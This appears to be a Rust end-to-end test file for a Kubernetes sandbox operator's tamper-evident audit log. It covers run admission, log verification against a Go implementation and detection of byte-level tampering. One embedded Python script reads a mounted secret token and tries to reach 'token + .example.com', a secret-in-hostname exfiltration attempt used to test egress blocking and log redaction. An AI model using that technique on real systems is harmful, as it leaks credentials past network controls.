//! What is in the audit log, and who can tell that it is what was written.

use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use k8s_openapi::api::core::v1::{ConfigMap, Secret as KubernetesSecret};
use kube::api::{DeleteParams, PostParams};
use kube::{Api, Client, ResourceExt as _};
use paddock_crds::{ConditionType, Phase, Reason, ScriptRun};
use paddock_e2e::cluster::component;
use serde_json::{Value, json};

use crate::harness::internet::{https, names};
use crate::harness::{OPERATOR_NAMESPACE, Script, Tenant, admin, assert_end, eventually, kubectl, layout, namespace};

/// The key of the log, which the operator makes, and the last checkpoint.
pub const SECRET: &str = "paddock-audit";
const HOST: Ipv4Addr = Ipv4Addr::new(93, 184, 215, 60);
/// What a script is given, and tries to tell the log.
const GIVEN: &str = "k3ep-th1s";

/// The log is away, and a leader has just begun.
pub async fn a_run_is_not_admitted(tenant: &Tenant) -> ScriptRun {
    let held = tenant.create(Script::python("print('held')")).await;
    let wanted = Reason::AuditLogUnavailable;
    tenant
        .until(&held, "the run waits for the log", |status| {
            status.condition(&ConditionType::Admitted).is_some_and(|admitted| admitted.reason == wanted)
        })
        .await
}

/// The checkpoint that is kept in the cluster, without which another log may begin.
pub async fn forget(client: &Client) {
    let api: Api<ConfigMap> = Api::namespaced(client.clone(), OPERATOR_NAMESPACE);
    let kept = api.get(SECRET).await.unwrap().data.unwrap();
    assert!(kept["checkpoint"].starts_with("paddock.dev/audit/"), "{kept:?}");
    api.delete(SECRET, &DeleteParams::default()).await.unwrap();
}

fn log(folder: &Path) -> PathBuf {
    folder.join("audit/log")
}

async fn key() -> String {
    let secrets: Api<KubernetesSecret> = Api::namespaced(admin().await, OPERATOR_NAMESPACE);
    let secret = secrets.get(SECRET).await.unwrap();
    String::from_utf8(secret.data.unwrap()["verifier"].0.clone()).unwrap()
}

fn paddock(arguments: &[&str], folder: &Path, key: &str) -> Output {
    let program = layout().clone.join("target/debug/kubectl-paddock");
    Command::new(program).arg("audit").args(arguments).arg(folder).args(["--key", key]).output().unwrap()
}

/// What the log tells, of a run if one is named.
fn shown(folder: &Path, key: &str, run: Option<&ScriptRun>) -> Result<Vec<Value>, String> {
    let named = run.map(|run| format!("--run={}", run.uid().unwrap()));
    let arguments: Vec<&str> = ["show"].into_iter().chain(named.as_deref()).collect();
    let output = paddock(&arguments, &log(folder), key);
    if !output.status.success() {
        return Err(String::from_utf8_lossy(&output.stderr).into_owned());
    }
    Ok(output
        .stdout
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_slice(line).unwrap())
        .collect())
}

/// Once the end of the run is told.
async fn life(folder: &Path, run: &ScriptRun) -> Vec<Value> {
    let key = key().await;
    eventually("the end of the run is in the log", || async {
        // A copy that is made while the log is written may lack its last files.
        let records = shown(folder, &key, Some(run))?;
        if records.iter().any(|record| record["type"] == "dev.paddock.run.finished.v1") { Ok(records) } else { Err(format!("{records:?}")) }
    })
    .await
}

fn types(records: &[Value]) -> Vec<&str> {
    let names = records.iter().map(|record| record["type"].as_str().unwrap());
    names.map(|name| name.trim_start_matches("dev.paddock.").trim_end_matches(".v1")).collect()
}

/// Also of the one whose leader was killed while nothing could be written.
pub async fn the_lives_of_both_are_in_the_log(folder: &Path, killed: &ScriptRun, held: &ScriptRun) {
    assert_end(held, &Phase::Succeeded, &Reason::Succeeded);
    for run in [killed, held] {
        let records = life(folder, run).await;
        let told = types(&records);
        for expected in ["run.received", "run.admitted", "run.started", "run.result-ready", "run.finished"] {
            assert_eq!(told.iter().filter(|told| **told == expected).count(), 1, "{expected} in {told:?}");
        }
        let admitted = records.iter().find(|record| record["type"] == "dev.paddock.run.admitted.v1").unwrap();
        assert!(admitted["data"]["script"].as_str().unwrap().starts_with("hmac-sha256:"), "{admitted}");
        assert_eq!(admitted["subject"], format!("{}/{}", run.namespace().unwrap(), run.name_any()));
        assert!(admitted["data"]["policies"][0]["hash"].is_string() && admitted["data"]["requester"]["username"].is_string(), "{admitted}");
    }
    let all = shown(folder, &key().await, None).unwrap();
    let opened = types(&all).iter().filter(|told| **told == "audit.opened").count();
    assert!(opened >= 2, "two leaders: {:?}", types(&all));
}

/// What it reached, what it was refused, and nothing of what it was given.
pub async fn what_runs_connect_to_is_in_the_log(folder: &Path) {
    let folder = folder.to_owned();
    let host = https("audited.example.com", HOST);
    names(&[("audited.example.com", HOST)]);
    namespace("audit", json!({}), |tenant| async move {
        let capabilities = json!({ "network": [{ "hosts": ["*.example.com"] }], "secrets": [{ "name": "api" }] });
        tenant.cluster_policy(json!({ "capabilities": capabilities })).await;
        tenant.let_the_operator_read("secrets", "paddock-secret-reader").await;
        let secrets: Api<KubernetesSecret> = Api::namespaced(tenant.client.clone(), &tenant.name);
        let secret = serde_json::from_value(json!({ "metadata": { "name": "api" }, "stringData": { "token": GIVEN } })).unwrap();
        secrets.create(&PostParams::default(), &secret).await.unwrap();
        let script = r#"
import glob, json, ssl, sys, urllib.request
context = ssl.create_default_context(cadata=json.load(sys.stdin)["authority"])
token = [open(path).read() for path in glob.glob("/paddock/secrets/api/token")][0]
for host in "audited.example.com", "www.example.org", token + ".example.com":
    try:
        print(urllib.request.urlopen(f"https://{host}/", context=context, timeout=20).read().decode())
    except OSError as error:
        print("no", len(str(error)))
"#;
        let run = tenant
            .create(Script::python(script).with(json!({
                "policyRef": { "kind": "ClusterSandboxPolicy", "name": tenant.name }, "script": { "input": { "authority": host.authority } },
                "capabilities": { "network": ["*.example.com"], "secrets": ["api"] },
            })))
            .await;
        let run = tenant.finished(&run).await;
        assert_end(&run, &Phase::Succeeded, &Reason::Succeeded);
        let key = key().await;
        // Each replica of the gateway tells of its own.
        let records = eventually("the end and the three connections are in the log", || async {
            let records = shown(&folder, &key, Some(&run))?;
            let told = types(&records);
            let connections = told.iter().filter(|type_| type_.starts_with("egress.")).count();
            if told.contains(&"run.finished") && connections == 3 { Ok(records) } else { Err(format!("{records:?}")) }
        })
        .await;
        let with = |outcome: &str| records.iter().find(|record| record["data"]["outcome"] == outcome).expect(outcome);
        let (reached, refused, withheld) = (with("Closed"), with("NotGranted"), with("NotResolved"));
        let of = |record: &Value| {
            let data = &record["data"];
            (record["type"].clone(), data["to"].clone(), data["verdict"].clone(), data["outcome"].clone(), data["address"].clone())
        };
        let text = |texts: [&str; 4]| texts.map(Value::from);
        let [type_, to, verdict, outcome] = text(["dev.paddock.egress.granted.v1", "audited.example.com:443", "Granted", "Closed"]);
        assert_eq!(of(reached), (type_, to, verdict, outcome, json!(HOST.to_string())));
        assert!(reached["data"]["sentBytes"].as_u64() > Some(100) && reached["data"]["receivedBytes"].as_u64() > Some(100), "{reached}");
        assert!(reached["data"]["rule"].as_str().unwrap().contains("capabilities.network[*.example.com]"), "{reached}");
        let [type_, to, verdict, outcome] = text(["dev.paddock.egress.refused.v1", "www.example.org:443", "Refused", "NotGranted"]);
        assert_eq!(of(refused), (type_, to, verdict, outcome, Value::Null));
        let [type_, to, verdict, outcome] = text(["dev.paddock.egress.granted.v1", "withheld", "Granted", "NotResolved"]);
        assert_eq!(of(withheld), (type_, to, verdict, outcome, Value::Null));
        let logged = kubectl(&["logs", "-n", OPERATOR_NAMESPACE, "-l", "app.kubernetes.io/component=operator", "--tail=-1"], "").unwrap();
        assert!(logged.contains("www.example.org:443") && !logged.contains(GIVEN), "a Secret in the operator's log");
        let decided = records.iter().find(|record| record["type"] == "dev.paddock.permission.decided.v1").unwrap();
        let granted: Vec<&str> =
            decided["data"]["decisions"].as_array().unwrap().iter().map(|decision| decision["permission"].as_str().unwrap()).collect();
        assert!(granted.contains(&"network:*.example.com:443") && granted.contains(&"secrets:api"), "{granted:?}");
        let finished = records.iter().find(|record| record["type"] == "dev.paddock.run.finished.v1").unwrap();
        assert_eq!((&finished["data"]["network"]["connections"], &finished["data"]["network"]["refused"]), (&json!(3), &json!(1)));
        tenant.no_cluster_policy().await;
    })
    .await;
}

/// By the CLI and by Go's own implementation; neither takes a copy with one byte changed.
pub async fn a_copy_of_the_log_can_be_verified(folder: &Path) {
    let key = key().await;
    let oracle = component::build_one(&layout(), "tlog").unwrap();
    let by_go = |copy: &Path| Command::new(&oracle).arg(copy).arg(&key).output().unwrap();
    let copy = folder.join("copy");
    let size = eventually("both find the log to be what was signed", || async {
        let _ = std::fs::remove_dir_all(&copy);
        assert!(Command::new("cp").arg("-a").arg(log(folder)).arg(&copy).status().unwrap().success());
        let ours = paddock(&["verify"], &copy, &key);
        let theirs = by_go(&copy);
        let text = |output: &Output| String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
        let size: u64 = text(&theirs).trim().parse().map_err(|_| text(&theirs))?;
        let is_same = ours.status.success() && text(&ours).contains(&format!(": {size} entries are what was signed"));
        if is_same { Ok(size) } else { Err(text(&ours)) }
    })
    .await;
    assert!(size > 20, "{size}");
    // The copy of a moment ago is a beginning of the log.
    let kept = copy.join("checkpoint");
    let since = paddock(&["verify", "--since", &kept.display().to_string()], &log(folder), &key);
    assert!(since.status.success(), "{since:?}");
    let bundle = std::fs::read_dir(copy.join("tile/entries")).unwrap().flatten().map(|entry| entry.path()).find(|path| path.is_dir());
    let bundle = bundle.expect("a bundle that is not full").join((size % 256).to_string());
    let mut bytes = std::fs::read(&bundle).unwrap();
    for hidden in [GIVEN, "AKIA", "print('held')"] {
        assert!(!bytes.windows(hidden.len()).any(|part| part == hidden.as_bytes()), "{hidden} is in the log");
    }
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    std::fs::write(&bundle, bytes).unwrap();
    assert_eq!(paddock(&["verify"], &copy, &key).status.code(), Some(1));
    assert!(!by_go(&copy).status.success());
}
